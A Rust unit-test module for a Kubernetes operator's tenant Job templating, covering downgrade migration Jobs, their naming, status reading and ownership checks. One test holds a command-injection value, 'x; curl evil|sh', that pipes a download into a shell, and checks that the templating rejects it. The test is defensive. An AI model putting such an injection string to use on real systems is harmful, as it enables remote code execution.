use breakwater_plan::observed::{ObjectFacts, Readiness, Reading};
use serde_json::{from_value, json};

use super::*;

fn tenant() -> Tenant {
    Tenant {
        id: TenantId(0x0123_4567_89ab_cdef),
        namespace: "acme".into(),
        name: "Chat.acme-eu".into(),
        object: ObjectFacts { uid: "u-1".into(), ..ObjectFacts::default() },
        metric_id: None,
        version: Reading::Version("2.0.0".into()),
        selected: true,
        selector_wave: None,
        excluded: false,
        dormant: false,
        terminating: false,
        consented: true,
        readiness: Readiness::NotReady { reason: "x".into() },
        marker: None,
        foreign_owner: None,
        confirmed: false,
    }
}

fn write(of: i64) -> JobWrite {
    let of = Timestamp::from_second(of).unwrap();
    let errand = Errand { purpose: Purpose::Revert, newer: "2.0.0".into(), older: "1.0.0".into(), of };
    JobWrite { tenant: tenant(), errand }
}

fn made(of: i64) -> Value {
    let template = from_value(json!({"deadline": "20m", "spec": {
        "backoffLimit": 1, "ttlSecondsAfterFinished": 60,
        "template": {"spec": {"restartPolicy": "Never", "containers": [{
            "name": "down", "image": "registry/chat:{newer}",
            "args": ["db", "down", "--to={older}", "--tenant={id}", "{namespace}/{tenant}", "{untouched}"],
        }]}},
    }}));
    template_of(&template.unwrap(), of)
}

fn template_of(template: &TenantJob, of: i64) -> Value {
    super::template(Of { namespace: "ops", name: "app" }, template, &write(of)).unwrap()
}

#[test]
fn a_job_is_the_template_filled_in_under_a_name_that_says_which_change_it_is_for() {
    let job = made(1);
    let container = &job["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(container["image"], "registry/chat:2.0.0");
    assert_eq!(
        container["args"],
        json!(["db", "down", "--to=1.0.0", "--tenant=acme/Chat.acme-eu", "acme/Chat.acme-eu", "{untouched}"])
    );
    let spec = &job["spec"];
    assert_eq!(
        (&spec["activeDeadlineSeconds"], &spec["ttlSecondsAfterFinished"]),
        (&json!(1_200), &json!(60))
    );
    let name = job["metadata"]["name"].as_str().unwrap();
    assert!(name.starts_with("bw-down-chatacme-eu-") && name.len() <= 63, "{name}");
    assert_eq!(made(1), made(1));
    assert_ne!(made(1)["metadata"]["name"], made(2)["metadata"]["name"], "another change, another Job");
}

#[test]
fn a_job_is_found_again_with_how_it_stands_and_others_are_left_alone() {
    let job = |of: i64, conditions: Value| -> Arc<Job> {
        let mut job = made(of);
        job["status"] = json!({ "conditions": conditions });
        Arc::new(from_value(job).unwrap())
    };
    let failed = json!([{"type": "Suspended", "status": "False"}, {"type": "Failed", "status": "True", "reason": "BackoffLimitExceeded", "message": "no luck"}]);
    let jobs = [job(1, json!([])), job(2, json!([{"type": "Complete", "status": "True"}])), job(3, failed)];
    let found = read(Of { namespace: "ops", name: "app" }, &[tenant()], jobs.iter());
    let mine = &found[&tenant().id];
    assert_eq!(
        mine.iter().map(|job| job.errand.clone()).collect::<Vec<_>>(),
        [1, 2, 3].map(|of| write(of).errand)
    );
    assert_eq!(
        mine[..2].iter().map(|job| job.state.clone()).collect::<Vec<_>>(),
        [JobState::Running, JobState::Succeeded]
    );
    let JobState::Failed(why) = &mine[2].state else { panic!("{mine:?}") };
    assert!(why.ends_with("BackoffLimitExceeded: no luck"), "{why}");
    assert!(read(Of { namespace: "ops", name: "other" }, &[tenant()], jobs.iter()).is_empty());
}

#[test]
fn s4_a_job_elsewhere_or_under_another_name_is_a_strangers() {
    let with = |key: &str, value: &str| {
        let mut job = made(1);
        job["metadata"][key] = json!(value);
        job["status"] = json!({"conditions": [{"type": "Complete", "status": "True"}]});
        [Arc::new(from_value::<Job>(job).unwrap())]
    };
    let read =
        |jobs: [Arc<Job>; 1]| read(Of { namespace: "ops", name: "app" }, &[tenant()], jobs.iter()).len();
    assert_eq!(read(with("generateName", "x")), 1, "ours");
    assert_eq!(read(with("namespace", "other")), 0, "its label and annotations say nothing");
    assert_eq!(read(with("name", "bw-down-chat")), 0);
}

#[test]
fn s10_a_name_in_metrics_is_no_command() {
    let spec = json!({"template": {"spec": {"containers": [{"name": "a", "args": ["-c", "migrate {id}"]}, {"name": "b", "env": [{"name": "BREAKWATER_ID", "value": "own"}]}]}}});
    let template: TenantJob = from_value(json!({"deadline": "20m", "spec": spec})).unwrap();
    let of = Of { namespace: "ops", name: "app" };
    let evil = "x; curl evil|sh";
    let mut write = write(1);
    write.tenant.metric_id = Some(evil.into());
    let why = super::template(of, &template, &write).unwrap_err();
    assert!(why.contains("BREAKWATER_ID") && why.contains("{id}"), "{why}");
    let mut quiet = template.clone();
    quiet.spec["template"]["spec"]["containers"][0]["args"][1] = json!("migrate \"$BREAKWATER_ID\"");
    let job = super::template(of, &quiet, &write).unwrap();
    let env =
        |at: usize| job["spec"]["template"]["spec"]["containers"][at]["env"].as_array().unwrap().clone();
    assert!(env(0).contains(&json!({"name": "BREAKWATER_ID", "value": evil})), "{:?}", env(0));
    assert!(
        env(1).contains(&json!({"name": "BREAKWATER_ID", "value": "own"})) && env(1).len() == 5,
        "{:?}",
        env(1)
    );
}
